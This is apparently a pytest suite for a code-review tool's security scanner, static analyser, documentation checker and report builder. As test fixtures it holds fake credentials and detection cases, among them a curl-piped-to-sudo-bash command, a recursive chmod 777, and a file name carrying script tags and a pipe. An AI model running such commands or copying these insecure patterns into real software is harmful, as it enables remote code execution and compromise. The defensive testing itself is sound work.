"""What the other agents look for, and what they leave alone."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from review.documentation import broken_links, review_documentation
from review.findings import MAX_PER_FILE, Finding, bounded, on_lines
from review.languages import is_test, language_of, subject_of
from review.report import collect, to_markdown, to_output
from review.security import entropy, scan, scan_line
from review.static_analysis import analyse
from review.test_gap import find_gaps
from review.tools import MAX_OUTPUT, find_tool, run_tool
from review.workdir import ChangedFile, WorkDir

AddFile = Callable[..., ChangedFile]

KEY = "AKIA" + "ABCDEFGHIJKLMNOP"


def rules_of(line: str, language: str = "python") -> list[str]:
    return [finding.rule for finding in scan_line(line, 1, language)]


@pytest.mark.parametrize(
    ("line", "language", "rule"),
    [
        (f"key = '{KEY}'", "python", "aws-key"),
        ("-----BEGIN RSA " + "PRIVATE KEY-----", "text", "private-key"),
        ("token: ghp_" + "a1B2" * 9, "yaml", "github-token"),
        ("url = 'postgres://admin:" + "s3cr3t@db.internal/x'", "python", "url-password"),
        ("password = '" + "k8Jq2mZx91Lw'", "python", "hardcoded-secret"),
        ('"api_key": "' + 'k8Jq2mZx91LwPq"', "json", "hardcoded-secret"),
        ("blob = '" + "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5zA7bC'", "python", "random-string"),
        ("eval(text)", "python", "eval"),
        ("subprocess.run(x, shell=True)", "python", "shell-injection"),
        ("data = pickle.loads(raw)", "python", "unsafe-load"),
        ("  strcpy(to, from);", "c", "unbounded-copy"),
        ("element.innerHTML = text", "javascript", "html-injection"),
        ("curl https://x.example/i.sh | sudo bash", "shell", "pipe-to-shell"),
        ("chmod -R 777 /srv", "shell", "world-writable"),
    ],
)
def test_security_finds(line: str, language: str, rule: str) -> None:
    assert rules_of(line, language) == [rule]


@pytest.mark.parametrize(
    ("line", "language"),
    [
        ("password = os.environ['PASSWORD']", "python"),
        ("password = 'your_password_here'", "python"),
        ('api_key: "${{ secrets.OPENAI_API_KEY }}"', "yaml"),
        ("sha256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'", "python"),
        ("model.eval()", "python"),
        ("# eval(text)", "python"),
        ("std::system_clock::now();", "c++"),
        ("auto x = process.system(1);", "c++"),
        ("yaml.load(text, Loader=yaml.SafeLoader)", "python"),
        ("url = 'https://user@example.org/'", "python"),
        ("eval(text)", "markdown"),
        ("eval(text)  # code-review: ignore", "python"),
        ("/usr/share/Some/Long/Path/With/Many/Parts/And/Digits/0123456789", "text"),
    ],
)
def test_security_leaves_alone(line: str, language: str) -> None:
    assert rules_of(line, language) == []


def test_a_secret_is_never_shown_whole(work: WorkDir, add_file: AddFile) -> None:
    (finding,) = scan(work, add_file("a.py", f"key = '{KEY}'\n")).findings
    assert KEY not in finding.message
    assert KEY[:4] in finding.message


def test_security_looks_at_added_lines_only(work: WorkDir, add_file: AddFile) -> None:
    file = add_file("a.py", "eval(a)\neval(b)\neval(c)\n", ranges=[(2, 2)])
    assert [finding.line for finding in scan(work, file).findings] == [2]


def test_a_line_of_megabytes_takes_no_time(work: WorkDir, add_file: AddFile) -> None:
    file = add_file("a.js", "x = '" + "aA0" * 700_000 + "'\n")
    began = time.process_time()
    scan(work, file)
    assert time.process_time() - began < 2


def test_entropy_of_uniform_text_is_the_logarithm_of_its_alphabet() -> None:
    assert entropy("") == 0
    assert entropy("aaaa") == 0
    assert entropy("abcd") == pytest.approx(2)


def test_python_analysis_reports_changed_lines_only(work: WorkDir, add_file: AddFile) -> None:
    source = "def f(x=[]):\n    return x\n    print(x)\n\ndef g(y={}):\n    return y\n"
    everything = {(f.line, f.rule) for f in analyse(work, add_file("a.py", source)).findings if f.tool == "ast"}
    part = {(f.line, f.rule) for f in analyse(work, add_file("b.py", source, [(5, 6)])).findings if f.tool == "ast"}
    assert everything == {(1, "mutable-default"), (3, "unreachable"), (5, "mutable-default")}
    assert part == {(5, "mutable-default")}


@pytest.mark.skipif(find_tool("shellcheck") is None, reason="no shellcheck")
def test_shellcheck_findings_have_their_line(work: WorkDir, add_file: AddFile) -> None:
    review = analyse(work, add_file("a.sh", "#!/bin/bash\nx=$1\ncd $x\n"))
    assert {finding.line for finding in review.findings} == {3}


@pytest.mark.skipif(find_tool("cppcheck") is None, reason="no cppcheck")
def test_cppcheck_findings_have_their_line(work: WorkDir, add_file: AddFile) -> None:
    source = "int f() {\n  int* p = new int[2];\n  p[0] = 1;\n  int r = p[2];\n  delete[] p;\n  return r;\n}\n"
    review = analyse(work, add_file("a.cc", source))
    assert 4 in {finding.line for finding in review.findings}


def test_code_without_its_test_is_a_gap_and_one_with_it_is_none(work: WorkDir, add_file: AddFile) -> None:
    body = "a = 1\nb = 2\nc = 3\n"
    files = [
        add_file("src/tested.py", body),
        add_file("tests/test_tested.py", body),
        add_file("src/untested.py", body),
        add_file("src/stale.py", body),
        add_file("src/mentioned.py", body),
        add_file("tests/test_other.py", "import mentioned\n"),
        add_file("src/small.py", "version = 2\n"),
        add_file("README.md", body),
        add_file("tests/test_gone.py", "", status="deleted"),
    ]
    paths = [file.path for file in files if file.status != "deleted"] + ["tests/test_stale.py"]
    reviews = find_gaps(work, files, paths)
    found = {files[index].path: review.findings[0].rule for index, review in reviews.items()}
    assert found == {
        "src/untested.py": "no-test",
        "src/stale.py": "test-unchanged",
        "tests/test_gone.py": "test-deleted",
    }


def test_links_are_followed_where_they_lead(work: WorkDir) -> None:
    lines = [
        "# A heading",
        "[ok](other.md) [ok](../README.md#x) [ok](https://example.org) [ok](#a-heading) [ok](sub)",
        "[broken](gone.md)",
        "[broken](#no-heading)",
        "```",
        "[not a link](gone.md)",
        "```",
        "`[code](gone.md)`",
        "[reference]: gone.md",
    ]
    tree = {"docs/other.md", "README.md", "docs/sub", "docs/sub/x.md"}
    assert [(f.line, f.rule) for f in broken_links(lines, "docs/a.md", tree)] == [
        (3, "broken-link"),
        (4, "broken-anchor"),
        (9, "broken-link"),
    ]


def test_public_code_without_a_word_is_reported_on_changed_lines(work: WorkDir, add_file: AddFile) -> None:
    body = "\n".join(f"    x{n} = {n}" for n in range(6))
    source = f'def bare():\n{body}\n\ndef told():\n    """Says what."""\n{body}\n\ndef _private():\n{body}\n'
    files = [add_file("a.py", source), add_file("b.h", "// What it is for.\nclass Told {\n};\n\nclass Bare {\n};\n")]
    reviews = review_documentation(work, files, [])
    assert [(f.line, f.rule) for f in reviews[0].findings] == [(1, "no-docstring")]
    assert [(f.line, f.rule) for f in reviews[1].findings] == [(5, "no-comment")]


def test_tests_and_what_they_test_are_told_by_name() -> None:
    assert all(map(is_test, ["tests/a.py", "src/a_test.cc", "test_a.py", "a.spec.ts", "src/FooTest.java"]))
    assert not any(map(is_test, ["src/contest.py", "src/latest.cc", "attest.py"]))
    assert [subject_of(p) for p in ["a_test.cc", "test_a.py", "a.spec.ts", "ATest.java"]] == ["a"] * 4
    assert language_of("tool", b"#!/usr/bin/env python3\n") == "python"
    assert language_of("tool", b"#!/bin/bash -e\n") == "shell"


def test_findings_are_bounded_and_say_so() -> None:
    kept = bounded(Finding(n, "info", "rule", "m" * 1000) for n in range(1, 200))
    assert len(kept) == MAX_PER_FILE + 1
    assert "149 more" in kept[-1].message
    assert all(len(finding.message) <= 300 for finding in kept)


def test_findings_on_the_file_as_a_whole_survive_the_filter() -> None:
    findings = [Finding(n, "info", "rule", "m") for n in (0, 1, 2, 3)]
    assert [f.line for f in on_lines(findings, [(2, 2)])] == [0, 2]


def test_a_tool_that_hangs_is_killed_with_its_children() -> None:
    sleep = find_tool("sh")
    assert sleep is not None
    began = time.monotonic()
    run = run_tool([sleep, "-c", "sleep 60 & sleep 60"], timeout=0.2)
    assert run.timed_out
    assert time.monotonic() - began < 5


def test_output_is_bounded_and_input_may_be_ignored() -> None:
    shell = find_tool("sh")
    assert shell is not None
    run = run_tool([shell, "-c", "head -c 3000000 /dev/zero; exit 3"], stdin=b"x" * 1_000_000)
    assert (run.status, len(run.stdout), run.timed_out) == (3, MAX_OUTPUT, False)


def test_a_tool_sees_no_secret_of_the_worker(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GANGLION_TOKEN", "secret")
    env = find_tool("env")
    assert env is not None
    assert "secret" not in run_tool([env]).stdout


def test_the_report_survives_failed_agents_and_hostile_names(work: WorkDir, add_file: AddFile) -> None:
    # given findings in a file with a hostile name, one failed item and one failed step
    file = add_file("<script>`a`\n|b.py", f"key = '{KEY}'\n")
    work.write_manifest({"repository": "r", "base": "", "head": "f" * 40, "changed": 1, "not_reviewed": 0}, [file])
    work.write_review("security", file.index, scan(work, file))
    results = {
        "syntax": [None],
        "static_analysis": [],
        "security": [{"index": 0, "findings": 1, "ms": 1500}],
        "test_gap": None,
        "documentation": {"findings": 0, "ms": 2},
    }
    # when they are merged
    report = collect(work, results, {"test_gap": {"code": "exception", "message": "boom"}})
    markdown = to_markdown(report)
    # then everything is there, and the name is text
    assert report.counts == {"error": 1, "warning": 0, "info": 0}
    assert "aws-key" in markdown and "1.5 s" in markdown
    assert "test\\_gap failed for 1 of 1 tasks: exception boom" in markdown
    assert "syntax failed for 1 of 1 tasks" in markdown
    assert "``<script>`a`\\n|b.py``" in markdown
    assert "\n|b.py" not in markdown
    assert to_output(report, "x")["counts"]["error"] == 1


def test_an_empty_change_has_a_report(work: WorkDir) -> None:
    work.write_manifest({"repository": "r", "base": "", "head": "", "changed": 0, "not_reviewed": 0}, [])
    done = {"findings": 0, "ms": 0}
    results = {"syntax": [], "static_analysis": [], "security": [], "test_gap": done, "documentation": done}
    markdown = to_markdown(collect(work, results, {}))
    assert "**0 changed files**" in markdown
    assert "No findings." in markdown
    assert "## Notes" not in markdown
